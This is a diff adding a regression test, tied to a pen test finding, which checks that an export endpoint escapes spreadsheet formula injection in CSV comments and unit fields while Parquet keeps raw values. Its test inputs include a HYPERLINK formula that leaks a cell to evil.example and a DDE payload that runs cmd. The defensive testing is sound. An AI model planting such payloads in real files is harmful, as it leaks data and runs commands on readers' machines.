@@ -307,3 +307,35 @@ def test_actions_after_the_window_end_are_left_out(charlie_client, actions):
     frame = read_csv(charlie_client.get(URL, {"from": "2026-11-01", "to": "2026-11-30"}))
     assert "dismiss" not in list(frame["action"])
     assert len(frame) == 3
+
+
+@pytest.mark.parametrize(
+    "comment",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&C2,"x")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "\tx",
+        "\rx",
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(
+    charlie_client, alice, ui_model_version, comment
+):
+    """Pen test finding 2: comments (and a unit posted by the scoring service) were written verbatim,
+    so a spreadsheet opening the export ran them. CSV escapes them; Parquet keeps the value."""
+    prediction = prediction_create(model_version=ui_model_version, unit="=MICU", risk=0.71)
+    alert_action_record(
+        alert=prediction.alert, user=alice, action="dismiss", reason="already_aware", comment=comment
+    )
+    params = {"from": "2000-01-01", "to": "2100-01-01"}
+
+    row = read_csv(charlie_client.get(URL, {**params, "format": "csv"})).iloc[0]
+    assert row["comment"] == "'" + comment
+    assert row["unit"] == "'=MICU"
+
+    frame = pd.read_parquet(
+        io.BytesIO(b"".join(charlie_client.get(URL, {**params, "format": "parquet"}).streaming_content))
+    )
+    assert frame.iloc[0]["comment"] == comment and frame.iloc[0]["unit"] == "=MICU"
